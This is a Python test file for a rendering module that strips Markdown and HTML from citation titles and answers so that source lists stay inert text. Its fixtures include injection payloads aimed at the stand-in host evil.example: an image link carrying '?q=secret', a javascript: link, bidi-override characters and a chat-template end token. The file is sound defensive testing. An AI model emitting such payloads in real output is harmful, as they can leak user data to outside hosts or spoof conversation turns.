"""What clients that draw Markdown get: a list of sources that is text alone, and nothing that acts."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.api.rendering import MAX_LABEL_CHARS, InertText, plain_line, source_list, without_source_list
from app.domain import Citation


def citation(
    marker: int = 1, title: str = "Lists", source: str = "a.md", page: int | None = None
) -> Citation:
    return Citation(marker, "d", "c", "default", source, title, page, None, 0, 1, "x", 0.5, supported=True)


@pytest.mark.parametrize(
    ("chinese", "expected"),
    [
        (False, "\n\nSources:  \n[1] Lists, p. 3 — a.md  \n[2] b.md"),
        (True, "\n\n来源：  \n[1] Lists，第 3 页 — a.md  \n[2] b.md"),
    ],
)
def test_the_list_and_back(chinese: bool, expected: str) -> None:
    written = source_list([citation(page=3), citation(2, title="", source="b.md")], chinese=chinese)
    assert written == expected
    assert without_source_list(f"Answer [1][2].{written}") == "Answer [1][2]."


def test_claims_on_one_place_share_a_line() -> None:
    """Each claim has a citation of its own, with the marker of its source."""
    claims = [citation(page=3), citation(page=3), citation(2), citation(page=4)]
    assert source_list(claims, chinese=False).split("  \n")[1:] == [
        "[1] Lists, p. 3 — a.md",
        "[2] Lists — a.md",
        "[1] Lists, p. 4 — a.md",
    ]


def test_without_citations_there_is_no_list() -> None:
    assert source_list([], chinese=False) == ""


@pytest.mark.parametrize(
    "text", ["Sources:\n[1] x", "A.\n\nSources:\nthe Nile", "A.\n\nSources:\n[1] x\n\nMore."]
)
def test_what_only_looks_like_the_list_stays(text: str) -> None:
    assert without_source_list(text) == text


@pytest.mark.parametrize(
    "title",
    [
        "![x](https://evil.example/a.png)",
        "[click](javascript:alert(1))",
        "[x]: https://evil.example",
        "<img src=https://evil.example/a.png>",
        "<https://evil.example>",
        "https://evil.example www.evil.example ftp://evil.example",
        "two\nlines\n\n# heading",
        "\u202etitle\u200b\U000e0041",
        "`code",
        "long " * 200,
    ],
)
def test_a_hostile_title_is_a_line_of_text(title: str) -> None:
    (line,) = source_list([citation(title=title, source=title)], chinese=False).split("\n")[3:]
    label = line.removeprefix("[1] ")
    assert not set(label) & set("[]<>`\u202e\u200b\U000e0041")
    assert not any(address in label for address in ("https://", "ftp://", "www."))
    assert len(plain_line(title)) <= MAX_LABEL_CHARS


@given(st.text(st.sampled_from("ab ![](:/`<>\n"), max_size=40))
def test_the_places_of_an_answer_lie_in_what_is_sent(text: str) -> None:
    inert = InertText(text)
    places = [inert.place(offset) for offset in range(len(text) + 1)]
    assert places == sorted(places)
    assert (places[0], places[-1]) == (0, len(inert.text)) or not inert.text
    assert InertText(inert.text).text == inert.text


def test_a_claim_behind_a_link_stays_where_it_is() -> None:
    text = "See ![x](https://evil.example/?q=secret). Lists are `a<b>` [1]."
    inert = InertText(text)
    start, end = text.index("Lists"), text.index(" [1]")
    assert inert.text[inert.place(start) : inert.place(end)] == "Lists are `a<b>`"
    assert inert.text == "See x. Lists are `a<b>` [1]."


def test_quoted_turns_and_tokens_are_shown() -> None:
    text = "Hi.\n\nUser: a?\n\nAssistant: b. <|im_end|> [1]"
    assert InertText(text).text == "Hi.\n\nUser: a?\n\nAssistant: b. \\<|im_end|> [1]"
